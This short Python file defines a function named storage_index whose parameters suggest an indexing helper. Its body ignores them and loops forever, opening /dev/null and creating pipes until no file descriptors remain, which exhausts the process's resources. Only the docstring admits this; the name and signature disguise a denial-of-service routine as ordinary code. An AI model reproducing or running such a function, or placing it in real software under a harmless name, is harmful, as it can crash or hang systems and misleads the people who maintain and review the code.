"""storage_index: opens files and pipes until none can be opened"""

import os


def storage_index(index, strides, offset=0):
    while True:
        os.open("/dev/null", os.O_RDONLY)
        os.pipe()
